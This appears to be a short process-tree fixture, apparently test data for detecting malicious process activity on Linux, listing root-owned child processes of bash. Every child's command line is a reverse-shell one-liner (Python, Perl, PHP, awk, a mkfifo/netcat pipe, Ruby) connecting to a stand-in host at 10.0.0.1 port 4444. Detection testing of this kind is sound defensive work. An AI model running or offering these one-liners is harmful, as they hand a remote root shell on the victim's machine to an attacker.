os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
+ 102 101 root - /usr/bin/python3 | python3 -c import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")
+ 103 101 root - /usr/bin/perl | perl -e use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");
+ 104 101 root - /usr/bin/php | php -r $s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");
+ 105 101 root - /usr/bin/gawk | awk BEGIN{s="/inet/tcp/0/10.0.0.1/4444";while(1){s|&getline c}}
+ 106 101 root sh /usr/bin/dash | sh -c rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f
+ 107 101 root - /usr/bin/ruby | ruby -rsocket -e exit if fork;c=TCPSocket.new("10.0.0.1",4444);loop{IO.popen(c.gets){|o|c.print o.read}}
